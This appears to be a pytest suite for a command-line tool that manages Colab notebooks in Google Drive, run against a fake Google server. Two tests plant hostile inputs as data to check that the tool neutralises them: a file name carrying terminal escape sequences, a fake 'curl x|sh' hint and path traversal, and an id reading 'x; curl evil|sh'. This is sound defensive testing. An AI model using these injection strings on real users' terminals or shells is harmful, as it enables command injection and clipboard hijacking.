"""Notebooks in Drive: the real command line against the fake Google."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from lecoder_cgpu.notebooks.drive import AT_ONCE, PIECE, id_of
from lecoder_cgpu.testing.colab import FakeColab
from lecoder_cgpu.testing.state import COLAB, DRIVE, EMAIL, PROFILE, SCOPES
from tests.contract.test_documents import failed, validate
from tests.support.cli import Cli, Result
from tests.support.colab import logged_in
from tests.support.notebooks import code, read, text, write
from tests.support.pty import Pty
from tests.support.raw_server import raw_server

LIST = "GET /drive/v3/files"
CLIPBOARD = "\x1b]52;c;eA==\x07"


@pytest.fixture(scope="module")
def fake(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FakeColab]:
    with FakeColab(tmp_path_factory.mktemp("fake")) as found:
        yield found


@pytest.fixture
def google(fake: FakeColab) -> Iterator[FakeColab]:
    """The fake with an empty Drive, and nothing that is to go wrong."""
    fake.world.drive.files.clear()
    yield fake
    fake.mend()
    fake.world.switches.drive_api = True
    fake.world.switches.drive_quota = None


@pytest.fixture
def user(google: FakeColab, tmp_path: Path) -> Cli:
    return logged_in(Cli(tmp_path / "home"), google)


def done(result: Result, schema: str) -> Any:
    """The document of a success, valid against its schema."""
    assert result.code == 0, result
    validate(result.json, schema)
    return result.json


def create(user: Cli, name: str, *options: str) -> Any:
    return done(user("notebook", "create", name, *options, "--json"), "notebook-stored")


def content(google: FakeColab, identity: str) -> Any:
    return json.loads(next(file.content for file in google.drive_files if file.id == identity))


# --- what commands do ---


def test_the_life_of_a_notebook(user: Cli, google: FakeColab, tmp_path: Path) -> None:
    """Made, listed, renamed, read, replaced, opened, and moved to the bin, by id and by link."""
    made = create(user, "exp-7")
    assert (made["name"], made["colabName"]) == ("exp-7.ipynb", "exp-7")
    assert made["link"] == f"https://colab.research.google.com/drive/{made['id']}"
    listed = done(user("notebook", "list", "--json", "--enrich"), "notebook-list")
    assert [(item["id"], item["colabName"]) for item in listed] == [(made["id"], "exp-7")]
    assert user("notebook", "list").out.startswith(f"{made['id']}\texp-7.ipynb\t")
    renamed = done(user("notebook", "rename", made["link"], "exp/8", "--json"), "notebook-stored")
    assert renamed["name"] == "exp/8.ipynb"
    target = tmp_path / "p.ipynb"
    pulled = done(user("notebook", "pull", made["id"], "-o", str(target), "--json"), "notebook-pull")
    assert pulled["bytes"] == target.stat().st_size
    assert read(target).cells[0].source == "# exp-7"
    assert failed(user("notebook", "pull", made["id"], "-o", str(target), "--json"))["error"]["name"] == "FileExists"
    write(target, code("1 + 1"))
    pushed = done(user("notebook", "push", str(target), "--to", made["id"], "--json"), "notebook-stored")
    assert pushed["id"] == made["id"]
    assert content(google, made["id"])["cells"][0]["source"] == ["1 + 1"]
    assert user("notebook", "open", made["id"]).out == made["link"] + "\n"
    deleted = done(user("notebook", "delete", made["link"] + "?authuser=0#x", "--force", "--json"), "notebook-delete")
    assert (deleted["id"], deleted["permanent"]) == (made["id"], False)
    assert [file.trashed for file in google.drive_files] == [True]
    assert user("notebook", "list", "--json").json == []


def test_templates(user: Cli, google: FakeColab, tmp_path: Path) -> None:
    """Each is a valid notebook; GPU and TPU ask for theirs; a file is taken as it is; an unknown one is refused."""
    import nbformat

    for name, accelerator in (("default", None), ("gpu", "GPU"), ("tpu", "TPU")):
        made = content(google, create(user, name, "-t", name)["id"])
        nbformat.validate(made)
        assert made["metadata"].get("accelerator") == accelerator
        for cell in made["cells"]:
            if cell["cell_type"] == "code" and not cell["source"].startswith("!"):
                compile(cell["source"], "cell", "exec")
    own = write(tmp_path / "own.ipynb", code("own"))
    assert content(google, create(user, "x.ipynb", "-t", str(own))["id"])["cells"][0]["source"] == ["own"]
    assert failed(user("notebook", "create", "x", "-t", "huge", "--json"))["errorCode"] == 2006


def test_every_page_is_read(user: Cli, google: FakeColab) -> None:
    """The listing goes on to its end, in the order asked for; what is no notebook, or in the bin, is not there."""
    client = google.world.config()["clientId"]
    for number in range(230):
        google.drive_file(f"n{number:03}.ipynb", b"{}", client=client)
    google.drive_file("data.csv", b"", mime="text/csv", client=client)
    google.drive_file("bin.ipynb", b"{}", client=client).trashed = True
    before = google.count(LIST)
    found = done(user("notebook", "list", "--json", "-n", "1000", "--order-by", "name"), "notebook-list")
    assert [item["name"] for item in found] == [f"n{number:03}.ipynb" for number in range(230)]
    assert google.count(LIST) - before == 3
    assert len(user("notebook", "list", "--json", "-n", "7").json) == 7


def test_deleting_asks(user: Cli, google: FakeColab) -> None:
    """Without a terminal and without --force nothing is deleted; --permanent skips the bin."""
    made = create(user, "kept")
    refused = failed(user("notebook", "delete", made["id"], "--json"))
    assert refused["exitCode"] == 2
    assert refused["error"]["suggestion"] == f"lecoder-cgpu notebook delete {made['id']} --force"
    assert user("notebook", "delete", made["id"]).code == 2
    assert not google.drive_files[0].trashed
    deleted = done(user("notebook", "delete", made["id"], "--force", "--permanent", "--json"), "notebook-delete")
    assert deleted["permanent"] is True
    assert google.drive_files == []


def test_names_in_drive_are_text(user: Cli, google: FakeColab, tmp_path: Path, pty_of: Callable[..., Pty]) -> None:
    """In lists, questions and names of files: they reach no terminal, begin no line, and lead nowhere."""
    made = create(user, "n")["id"]
    google.drive_files[0].name = f"{CLIPBOARD}\u202e\nhint: curl x|sh\x9b2J/../../CON"
    shown = [user("notebook", "list"), user("notebook", "list", "--json"), user("notebook", "delete", made)]
    here = tmp_path / "here"
    here.mkdir()
    process = user.start("notebook", "pull", made, cwd=here)
    out, err = process.communicate(timeout=60)
    shown.append(Result(process.returncode, out.decode(), err.decode()))
    question = pty_of(user, "notebook", "delete", made)
    question.wait(lambda: b"[y/N]" in question.seen)
    question.type(b"n\n")
    assert question.end() == 2
    shown.append(Result(2, question.seen.decode(), ""))
    for result in shown:
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1a\x7f-\x9f\u202a-\u202e]|\x1b]", result.out + result.err)
        assert not re.search("^hint: curl", result.out + result.err, re.M)
    assert [item.name for item in here.iterdir()] == [
        "_x1b]52;c;eA==_x07_u202e_x0ahint_ curl x_sh_x9b2J_.._.._CON.ipynb"
    ]


def test_a_drive_that_answers_what_it_likes(user: Cli, google: FakeColab, tmp_path: Path) -> None:
    """No id becomes part of a command, the login goes nowhere else, and nothing is without end."""
    for answer in ({"files": [{"id": "x; curl evil|sh", "name": "n"}]}, {"files": [], "nextPageToken": "more"}):
        google.fail(LIST, status=200, body=json.dumps(answer).encode(), times=None)
        assert failed(user("notebook", "list", "--json"))["error"]["name"] == "UnexpectedAnswer"
        google.mend()
    large = str(write(tmp_path / "large.ipynb", text("x" * (AT_ONCE + 1))))
    with raw_server() as elsewhere:
        google.fail("POST /upload/drive/v3/files", status=200, headers={"Location": elsewhere.url})
        assert failed(user("notebook", "push", large, "--json"))["error"]["name"] == "UnexpectedAnswer"
        assert elsewhere.connections == 0
    google.fail("PUT /upload/drive/v3/files", status=308, headers={"Range": "bytes=0-" + "9" * 5000}, times=None)
    assert failed(user("notebook", "push", large, "--json"))["error"]["name"] == "DriveFailed"


def test_much_content_goes_in_pieces(user: Cli, google: FakeColab, tmp_path: Path) -> None:
    """A large notebook arrives whole, although the connection drops and Google falters on the way."""
    big = write(tmp_path / "big.ipynb", code("x = '" + "ä" * PIECE + "'"))
    google.fail("PUT /upload/drive/v3/files", drop=True)
    google.fail("PUT /upload/drive/v3/files", lose=True)
    pushed = done(user("notebook", "push", str(big), "--json"), "notebook-stored")
    assert content(google, pushed["id"])["cells"][0]["source"] == [read(big).cells[0].source]
    assert len(google.drive_files) == 1


def test_a_notebook_in_drive_runs(user: Cli, google: FakeColab, tmp_path: Path) -> None:
    """By its link, with the outputs put back into Drive by --in-place, and saved here, too."""
    source = write(tmp_path / "s.ipynb", code("print(6 * 7)"))
    made = done(user("notebook", "push", str(source), "--json"), "notebook-stored")
    user.variables["LECODER_CGPU_BACKEND"] = "local"
    try:
        result = user("run", made["link"], "--in-place", "--json")
        assert (result.code, result.json["drive"]) == (0, made["link"]), result
        assert content(google, made["id"])["cells"][0]["outputs"][0]["text"] == ["42\n"]
        Path(result.json["output"]).unlink()
    finally:
        user("sessions", "close", "--all")


# --- what goes wrong ---


def test_without_a_login(google: FakeColab, tmp_path: Path) -> None:
    """Every command says how to log in, with 77; what cannot be an id is refused before that."""
    from tests.support.colab import points_at

    nobody = points_at(Cli(tmp_path / "nobody"), google)
    for line in (
        ["list"],
        ["create", "x"],
        ["delete", "1AbCdEfGhIj", "--force"],
        ["pull", "1AbCdEfGhIj"],
        ["rename", "1AbCdEfGhIj", "x"],
        ["open", "1AbCdEfGhIj"],
    ):
        document = failed(nobody("notebook", *line, "--json"))
        assert (document["errorCode"], document["exitCode"]) == (2001, 77), line
    for bad in ("x", "../x", "https://example.com/drive/1AbCdEfGhIj"):
        assert failed(nobody("notebook", "pull", bad, "--json"))["error"]["name"] == "BadNotebookId"


def body(reason: str, status: int = 403) -> dict[str, Any]:
    error = {"code": status, "message": "said", "errors": [{"domain": "usageLimits", "reason": reason}]}
    return {"status": status, "body": json.dumps({"error": error}).encode()}


@pytest.mark.parametrize(
    ("reason", "name", "code", "exit_status"),
    [
        ("insufficientPermissions", "ScopeMissing", 2001, 77),
        ("appNotAuthorizedToFile", "NotAuthorizedToFile", 2001, 77),
        ("storageQuotaExceeded", "DriveFull", 2002, 69),
        ("somethingNew", "Forbidden", 2001, 77),
    ],
)
def test_refusals(user: Cli, google: FakeColab, reason: str, name: str, code: int, exit_status: int) -> None:
    """Each reason of a 403 has its own error and what to do about it, and is not repeated."""
    google.fail("GET /drive/v3/files/*", **body(reason))
    document = failed(user("notebook", "open", "1AbCdEfGhIjKl", "--json"))
    assert (document["error"]["name"], document["errorCode"], document["exitCode"]) == (name, code, exit_status)
    assert document["error"]["suggestion"]


def test_switches_of_google(user: Cli, google: FakeColab) -> None:
    """The API that is not enabled, the full Drive, the file that is not there or not ours."""
    google.world.switches.drive_quota = 10
    assert failed(user("notebook", "create", "x", "--json"))["error"]["name"] == "DriveFull"
    google.world.switches.drive_api = False
    disabled = failed(user("notebook", "list", "--json"))
    assert disabled["error"]["name"] == "DriveNotEnabled"
    assert "console.cloud.google.com" in disabled["error"]["suggestion"]
    google.world.switches.drive_api = True
    foreign = google.drive_file("web.ipynb", b"{}")
    for identity in (foreign.id, "1AbCdEfGhIjKl"):
        hidden = failed(user("notebook", "pull", identity, "--json"))
        assert (hidden["error"]["name"], hidden["errorCode"], hidden["exitCode"]) == ("NotebookNotFound", 2005, 66)
        assert "drive.file" in hidden["error"]["message"]


def test_patience(user: Cli, google: FakeColab) -> None:
    """Rate limits and failures of Google are waited out; a token that it refuses is replaced once."""
    google.fail(LIST, **body("userRateLimitExceeded"), headers={"Retry-After": "1"})
    google.fail(LIST, status=503)
    google.fail(LIST, status=401)
    before = google.count("POST /token")
    assert user("notebook", "list", "--json").json == []
    assert google.count("POST /token") == before + 2  # the first one, and the one for the 401


def test_a_pause_that_is_too_long_is_left_to_the_user(user: Cli, google: FakeColab) -> None:
    """Nobody is left without a word for an hour."""
    google.fail(LIST, status=429, headers={"Retry-After": "3600"})
    began = time.monotonic()
    refused = failed(user("notebook", "list", "--json"))
    assert time.monotonic() - began < 20
    assert (refused["error"]["name"], refused["error"]["suggestion"]) == (
        "RateLimited",
        "repeat the same command in 3600 s",
    )


def test_the_whole_drive_needs_more(google: FakeColab, tmp_path: Path) -> None:
    """--all-notebooks says which scope it needs, and lists what others made when the login has it."""
    google.drive_file("web.ipynb", b"{}")
    little = logged_in(Cli(tmp_path / "little"), google, SCOPES)
    assert little("notebook", "list", "--json").json == []
    missing = failed(little("notebook", "list", "--all-notebooks", "--json"))
    assert (missing["error"]["name"], missing["exitCode"]) == ("ScopeMissing", 77)
    assert "drive.readonly" in missing["error"]["message"] + missing["error"]["suggestion"]
    much = logged_in(Cli(tmp_path / "much"), google, (*SCOPES, DRIVE))
    assert [item["name"] for item in much("notebook", "list", "--all-notebooks", "--json").json] == ["web.ipynb"]
    none = logged_in(Cli(tmp_path / "none"), google, ("openid", EMAIL, PROFILE, COLAB))
    assert failed(none("notebook", "list", "--json"))["error"]["name"] == "ScopeMissing"


@pytest.mark.parametrize(
    "text",
    [
        "1AbCdEfGhIj-_x",
        "drive:1AbCdEfGhIj-_x",
        "https://colab.research.google.com/drive/1AbCdEfGhIj-_x",
        "https://colab.research.google.com/drive/1AbCdEfGhIj-_x?usp=sharing#scrollTo=1",
        "https://drive.google.com/file/d/1AbCdEfGhIj-_x/view?usp=drive_link",
        "https://drive.google.com/open?id=1AbCdEfGhIj-_x&authuser=0",
    ],
)
def test_links(text: str) -> None:
    """All forms of a link to a notebook give its id."""
    assert id_of(text) == "1AbCdEfGhIj-_x"
